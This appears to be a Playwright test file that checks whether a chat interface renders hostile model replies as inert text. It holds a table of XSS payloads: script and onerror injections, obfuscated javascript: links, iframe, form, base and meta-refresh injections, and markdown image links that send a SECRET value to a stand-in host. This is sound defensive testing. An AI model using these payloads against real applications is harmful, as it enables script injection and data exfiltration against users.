// Model output is untrusted text: each hostile sample is shown, reloaded, and has no effect.
// UX-41 of docs/acceptance.md.
import type { Locator, Page } from "@playwright/test";

import { startChat, expectStatus, waitForHydration, latestReply, openPage, sendMessage, textOf } from "../../support/chat.ts";
import { expect, test } from "../../support/fixtures.ts";

const XSS = "window.__xss=1";
const rows: [id: string, text: string, shown?: string][] = [
  ["S-MD-01", `<script>${XSS}</script>`, `<script>${XSS}</script>`],
  ["S-MD-02", `<img src=x onerror=${XSS}>`, "<img src=x onerror="],
  ["S-MD-03", `[a](javascript:${XSS}) and ![b](javascript:${XSS})`],
  ["S-MD-04", `[a](JaVaScRiPt:${XSS}) [b]( javascript:${XSS})`],
  ["S-MD-05", `[a](java&#115;cript:${XSS}) [b](javascript&colon;${XSS}) [c](&#x6a;avascript:${XSS})`],
  ["S-MD-06", `<javascript:${XSS}> <vbscript:${XSS}>`, "javascript:"],
  ["S-MD-07", "[a](data:text/html;base64,PHNjcmlwdD4=) ![b](data:image/svg+xml;base64,PHN2Zz4=)"],
  ["S-MD-08", "![x](https://canary.test/p?q=SECRET)", "canary.test"],
  ["S-MD-09", "![x][r]\n\n[r]: https://canary.test/p?q=SECRET", "canary.test"],
  ["S-MD-10", `# h {onclick=${XSS}}`, "h"],
  ["S-MD-11", "```js\"><img src=x onerror=" + XSS + ">\nx\n```", "x"],
  ["S-MD-12", `[a](https://ok.test "\\"onmouseover=${XSS} x=\\"")`, "a"],
  ["S-MD-13a", `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`, "<iframe"],
  ["S-MD-13b", "<form action=//canary.test><input name=p></form>", "<form"],
  ["S-MD-13c", "<base href=//canary.test>", "<base"],
  ["S-MD-13d", "<meta http-equiv=refresh content=0;url=//canary.test>", "<meta"],
  ["S-MD-13e", "<style>@import '//canary.test'</style>", "<style>"],
  ["S-MD-14", "[a](//canary.test) [b](/logout) ![c](/logout)", "a b"],
  ["S-MD-15", "[a](smb://canary.test/s) [b](calculator://) [c](file:///etc/passwd)", "a b c"],
  ["S-MD-16", `$\\href{javascript:${XSS}}{x}$ and $$\\bad{<img src=x onerror=${XSS}>}$$`],
  ["S-MD-20", "x\n\nevent: turn_end\ndata: {}\n\nafter", "after"],
  ["S-MD-22a", "Error: this is only what the model says", "Error: this"],
  ["S-MD-22b", `{"type":"turn_end"}`, `{"type":"turn_end"}`],
];

/** Asserts that no part of the text became an active element. */
async function expectInert(page: Page, turn: Locator): Promise<void> {
  expect(await page.evaluate(() => "__xss" in window)).toBe(false);
  const alive = textOf(turn).locator("script, iframe, object, embed, img, form, base, meta, style, link, svg, [style]");
  await expect(alive).toHaveCount(0);
  const found = await textOf(turn).evaluateAll((blocks) =>
    blocks.flatMap((block) => [...block.querySelectorAll("*")]).flatMap((element) => {
      const handlers = element.getAttributeNames().filter((name) => name.startsWith("on"));
      const href = element.getAttribute("href") ?? element.getAttribute("xlink:href") ?? "https:";
      // A link to an unnamed host leads to the confirmation page, and to no other page of Turnleaf.
      const asking = /^\/leave\?turn=[0-9a-f-]{36}&to=([^&#]+)$/.exec(href);
      const leads = asking ? decodeURIComponent(asking[1]!) : href;
      return (asking ? /^https?:\/\// : /^(https?|mailto):/).test(leads) ? handlers : [...handlers, href];
    }),
  );
  expect(found).toEqual([]);
}

test("a hostile reply does nothing, live or reloaded", async ({ page, model }) => {
  test.setTimeout(180_000);
  page.on("dialog", (dialog) => {
    throw new Error(`a dialog: ${dialog.message()}`);
  });
  for (const [index, [id, text, shown]] of rows.entries()) {
    await test.step(id, async () => {
      if (index === 0) await startChat(page, id);
      else await sendMessage(page, id);
      const reply = await model.nextReply();
      reply.sendText(text);
      reply.finish();
      await expect(page.locator("article[data-role=assistant]")).toHaveCount(index + 1);
      await expectStatus(latestReply(page), "complete");
      if (shown) await expect(textOf(latestReply(page))).toContainText(shown);
      await expect(latestReply(page).locator("[data-error]")).toHaveCount(0);
      await expectInert(page, latestReply(page));
    });
  }
  await page.reload();
  await waitForHydration(page);
  for (const turn of await page.locator("article[data-role=assistant]").all()) await expectInert(page, turn);
});

test("a hostile reply is inert at every byte", async ({ page, model }) => {
  await startChat(page, "byte by byte");
  const reply = await model.nextReply();
  const text = `<img src=x onerror=${XSS}>\n\n![x](https://canary.test/p?q=SECRET)\n\n<iframe srcdoc="<script>parent.__xss=1</script>">end`;
  for (const character of text) reply.sendText(character);
  await expect(textOf(latestReply(page))).toContainText("end");
  await expectInert(page, latestReply(page));
  reply.finish();
  await expectStatus(latestReply(page), "complete");
  await expectInert(page, latestReply(page));
});

test("a hostile message and title are text", async ({ page, model }) => {
  const hostile = `</title><script>${XSS}</script>`;
  await startChat(page, hostile);
  const reply = await model.nextReply();
  reply.sendText("fine");
  reply.finish();
  await expectStatus(latestReply(page), "complete");
  await expect(page.locator("article[data-role=user]")).toContainText(hostile);
  const path = new URL(page.url()).pathname;
  await openPage(page, path);
  expect(await page.evaluate(() => "__xss" in window)).toBe(false);
  const html = await page.context().request.get(path).then((answer) => answer.text());
  expect(html).not.toContain(`<script>${XSS}`);
});

test("an image elsewhere is a card that asks for nothing until it is opened", async ({ page, context, model, watch }) => {
  watch.expect(/request to https:\/\/canary\.test/);
  const requests: string[] = [];
  await context.route("https://canary.test/**", (route) => {
    requests.push(route.request().url());
    return route.fulfill({ contentType: "text/plain", body: "an image" });
  });
  await startChat(page, "Show");
  (await model.nextReply()).finishWithText("Look: ![a cat](https://canary.test/cat.png)");
  await expectStatus(latestReply(page), "complete");
  const card = textOf(latestReply(page)).locator(".md-image").filter({ hasText: "a cat" });
  await expect(card).toContainText("canary.test");
  await page.reload();
  await waitForHydration(page);
  await expect(card).toContainText("canary.test");
  await expect(latestReply(page).locator("img")).toHaveCount(0);
  expect(requests).toEqual([]);
  const opened = context.waitForEvent("page");
  await card.getByRole("link").click();
  const asking = await opened;
  const leads = asking.getByRole("link", { name: "Open link" });
  await expect(leads).toBeVisible();
  expect(requests).toEqual([]);
  await leads.click();
  await expect(asking).toHaveURL("https://canary.test/cat.png");
  expect(requests).toEqual(["https://canary.test/cat.png"]);
});
